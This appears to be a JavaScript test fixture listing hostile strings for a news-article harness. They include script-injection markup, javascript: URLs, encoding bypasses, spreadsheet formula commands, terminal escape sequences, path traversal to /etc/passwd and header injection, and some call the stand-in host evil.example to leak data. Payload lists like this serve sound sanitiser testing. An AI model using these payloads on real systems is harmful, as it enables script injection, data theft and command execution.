// Hostile strings, to stand as article text, title, id, source, URL, date, rule name and reason.
// A payload that is a script calls `pwned()`, which the guard of harness.mjs records, or `alert`.
//
// Each is a JavaScript string: some hold NUL or lone surrogates, which JSON lines carry as escapes and TOML
// cannot carry at all (see `inToml`). The names are unique, for messages.

const OUT = "//evil.example"; // asking for it is an outside request

const markup = {
  script: `<script>pwned()</script>`,
  "script upper": `<SCRIPT>pwned()</SCRIPT>`,
  "script mixed": `<ScRiPt >pwned()</sCrIpT >`,
  "script src": `<script src="${OUT}/x.js"></script>`,
  "script module": `<script type="module">pwned()</script>`,
  "script split": `<scr<script>ipt>pwned()</scr</script>ipt>`,
  "script unclosed": `<script>pwned()//`,
  "script slash": `<script/x>pwned()</script>`,
  "script newline": `<script\n>pwned()</script\n>`,
  "script json end": `</script><script>pwned()</script>`,
  "script json end spaced": `</script ><img src=x onerror=pwned()>`,
  "script comment state": `<!--<script>`,
  "script comment end": `--><script>pwned()</script><!--`,
  "img onerror": `<img src=x onerror=pwned()>`,
  "img onerror quoted": `"><img src="x" onerror="pwned()">`,
  "img single quote": `'><img src='x' onerror='pwned()'>`,
  "img slash": `<img/src=x/onerror=pwned()>`,
  "img outside": `<img src="http:${OUT}/pixel.png">`,
  "img srcset": `<img srcset="http:${OUT}/a.png 1x">`,
  "img unclosed": `<img src=x onerror=pwned()//`,
  picture: `<picture><source srcset="http:${OUT}/p.png"><img></picture>`,
  body: `</body></html><body onload=pwned()>`,
  "body late": `<body onpageshow=pwned()>`,
  iframe: `<iframe src="javascript:parent.pwned()"></iframe>`,
  "iframe srcdoc": `<iframe srcdoc="<script>parent.pwned()</script>"></iframe>`,
  "iframe outside": `<iframe src="http:${OUT}/"></iframe>`,
  object: `<object data="javascript:pwned()"></object>`,
  embed: `<embed src="http:${OUT}/x.swf">`,
  "video error": `<video><source onerror=pwned()></video>`,
  "audio error": `<audio src=x onerror=pwned()>`,
  "details toggle": `<details open ontoggle=pwned()>x</details>`,
  "input focus": `<input autofocus onfocus=pwned()>`,
  "select focus": `<select autofocus onfocus=pwned()></select>`,
  "textarea end": `</textarea><script>pwned()</script>`,
  "title end": `</title><script>pwned()</script>`,
  "style end": `</style><script>pwned()</script>`,
  "noscript end": `</noscript><script>pwned()</script>`,
  "table end": `</td></tr></table><script>pwned()</script>`,
  "template end": `</template><script>pwned()</script>`,
  marquee: `<marquee onstart=pwned()>x</marquee>`,
  "form action": `<form action="http:${OUT}/"><button>Send</button></form>`,
  "form button": `<button formaction="javascript:pwned()">x</button>`,
  "meta refresh": `<meta http-equiv="refresh" content="0;url=http:${OUT}/">`,
  "meta policy": `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
  base: `<base href="http:${OUT}/">`,
  link: `<link rel="stylesheet" href="http:${OUT}/x.css">`,
  "link prefetch": `<link rel="prefetch" href="http:${OUT}/p"><link rel="dns-prefetch" href="${OUT}">`,
  "anchor script": `<a href="javascript:pwned()">x</a>`,
  "anchor tab": `<a href="java\tscript:pwned()">x</a>`,
  "anchor ping": `<a href="#" ping="http:${OUT}/">x</a>`,
  "custom element": `<x-pwned></x-pwned>`,
  slot: `<template shadowrootmode="open"><script>pwned()</script></template>`,
  "animation": `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=pwned()>x</b>`,
  plaintext: `<plaintext>`,
  comment: `<!-- x`,
  cdata: `<![CDATA[<script>pwned()</script>]]>`,
  doctype: `<!DOCTYPE html [<!ENTITY x "y">]>&x;`,
  "processing instruction": `<?xml version="1.0"?><script>pwned()</script>`,
  "null in tag": `<scr\0ipt>pwned()</scr\0ipt>`,
};

const svg = {
  "svg onload": `<svg onload=pwned()>`,
  "svg script": `<svg><script>pwned()</script></svg>`,
  "svg href": `<svg><script href="data:text/javascript,pwned()"/></svg>`,
  "svg animate": `<svg><animate onbegin=pwned() attributeName=x dur=1s></svg>`,
  "svg set href": `<svg><a><set attributeName=href to=javascript:pwned()><text>x</text></a></svg>`,
  "svg foreign": `<svg><foreignObject><img src=x onerror=pwned()></foreignObject></svg>`,
  "svg use": `<svg><use href="http:${OUT}/x.svg#x"/></svg>`,
  "svg title end": `</title></text></svg><script>pwned()</script>`,
  math: `<math><mtext><table><mglyph><style><img src=x onerror=pwned()>`,
  "math href": `<math href="javascript:pwned()">x</math>`,
};

const attributes = {
  "double quote": `" onmouseover="pwned()" x="`,
  "single quote": `' onmouseover='pwned()' x='`,
  backquote: "` onmouseover=`pwned()` x=`",
  "no quote": ` onmouseover=pwned() `,
  "style attribute": `" style="background:url(http:${OUT}/x)" x="`,
  "autofocus": `" autofocus onfocus="pwned()" tabindex=1 x="`,
  "id clobbering": `<form id=document><input name=cookie></form>`,
  "name clobbering": `<img name=getElementById><a id=pwned></a>`,
};

const urls = {
  javascript: `javascript:pwned()`,
  "javascript upper": `JaVaScRiPt:pwned()`,
  "javascript spaces": ` \u0001javascript:pwned()`,
  "javascript comment": `javascript://x.example/%0Apwned()`,
  "data html": `data:text/html,<script>pwned()</script>`,
  "data base64": `data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+`,
  vbscript: `vbscript:msgbox(1)`,
  blob: `blob:http:${OUT}/1`,
  "file url": `file:///etc/passwd`,
  "protocol relative": `${OUT}/x`,
  credentials: `http://newsroom.example@evil.example/`,
  backslashes: `http:\\\\evil.example\\x`,
};

const entities = {
  "entity script": `&lt;script&gt;pwned()&lt;/script&gt;`,
  "entity numeric": `&#60;script&#62;pwned()&#60;/script&#62;`,
  "entity hex": `&#x3c;img src=x onerror=pwned()&#x3e;`,
  "entity unclosed": `&ltscript&gtpwned()&lt/script&gt`,
  "entity colon": `javascript&colon;pwned()`,
  "entity nul": `&#0;&#x110000;&#xd800;`,
  ampersands: `&&amp;&amp;amp;`,
  "percent encoded": `%3Cscript%3Epwned()%3C/script%3E`,
  "unicode escape": `\\u003cscript\\u003epwned()\\u003c/script\\u003e`,
  "fullwidth": `＜script＞pwned()＜/script＞`,
  "utf-7": `+ADw-script+AD4-pwned()+ADw-/script+AD4-`,
};

const templates = {
  mustache: `{{constructor.constructor('pwned()')()}}`,
  "template literal": "${pwned()}",
  "erb": `<%= pwned() %>`,
  "string break": `";pwned();//`,
  "string break single": `';pwned();//`,
  "string break backslash": `\\";pwned();//`,
  "prototype": `__proto__`,
  "constructor": `constructor`,
};

const styles = {
  "css expression": `x;background:expression(pwned())`,
  "css import": `}@import url(http:${OUT}/x.css);{`,
  "css url": `red;background-image:url(http:${OUT}/x)`,
  "css close": `}</style><img src=x onerror=pwned()>`,
};

const characters = {
  "line separator": `a\u2028pwned()\u2029b`,
  "bidi override": `\u202Egnp.tpircs\u202C \u2066x\u2069 \u2067y`,
  "bidi marks": `\u200E\u200F\u061C\u202Aunclosed\u202B`,
  "zero width": `<\u200Bscript>pwned()</\u200Bscript>\uFEFF\u00AD\u2060`,
  nul: `\0<script>\0pwned()</script>\0`,
  controls: Array.from({ length: 32 }, (_, code) => String.fromCharCode(code)).join("") + "\u007f",
  "c1 controls": Array.from({ length: 32 }, (_, code) => String.fromCharCode(0x80 + code)).join(""),
  "ansi colours": `\u001b[31;1mred\u001b[0m\u001b[2J\u001b[1;1H\u001b[?25l`,
  "osc title and clipboard": `\u001b]0;pwned\u0007\u001b]52;c;cHduZWQ=\u0007\u001b]8;;http:${OUT}\u001b\\x\u001b]8;;\u001b\\`,
  "c1 escapes": `\u009b31m\u009d0;pwned\u009c\u0090q\u009c`,
  "carriage return": `seen\rhidden\b\b\b\bgone`,
  "lone surrogates": `\ud83d <script>pwned()</script> \ude00\ud83d`,
  noncharacters: `\ufffe\uffff\u{1ffff}\u{10ffff}`,
  "combining marks": `e${"\u0301".repeat(500)}`,
  "tag characters": `x${[..."pwned"].map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join("")}`,
  "right to left": `<b dir=rtl>\u0633\u0644\u0627\u0645</b> \u05e9\u05dc\u05d5\u05dd<script>pwned()</script>`,
};

const cells = {
  "formula": `=HYPERLINK("http:${OUT}/?x="&A1,"open")`,
  "formula command": `=cmd|' /C calc'!A0`,
  "formula plus": `+1+cmd|' /C calc'!A0`,
  "formula minus": `-2+3+cmd|' /C calc'!A0`,
  "formula at": `@SUM(1+1)*cmd|' /C calc'!A0`,
  "formula tab": `\t=1+1`,
  "cell break": `",=1+1,"\r\n=1+1`,
};

const paths = {
  traversal: `../../../../etc/passwd`,
  "traversal encoded": `..%2f..%2f%2e%2e/etc/passwd`,
  "traversal windows": `..\\..\\C:\\CON`,
  "option": `-rf --output=/`,
  "query": `?token=&x=%00#<script>`,
  "header": `x\r\nSet-Cookie: a=b\r\n\r\n<script>pwned()</script>`,
};

const sizes = {
  long: `<img src=x onerror=pwned()>`.repeat(4_000),
  "long word": "w".repeat(100_000),
  "deep": "<div>".repeat(5_000),
};

/** All of them: `[{ name, text }]`. */
export const payloads = Object.entries({
  ...markup, ...svg, ...attributes, ...urls, ...entities, ...templates, ...styles, ...characters, ...cells, ...paths, ...sizes,
}).map(([name, text]) => ({ name, text }));

/** A basic string of TOML. Lone surrogates become U+FFFD: TOML has no way to write them. */
export function inToml(text) {
  const escape = (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, "0")}`;
  return `"${asRead(text).replace(/[\\"\u0000-\u001f\u007f]/g, escape)}"`;
}

/** How a program that reads Unicode alone sees it: lone surrogates as U+FFFD. */
export function asRead(text) {
  return Buffer.from(text).toString();
}
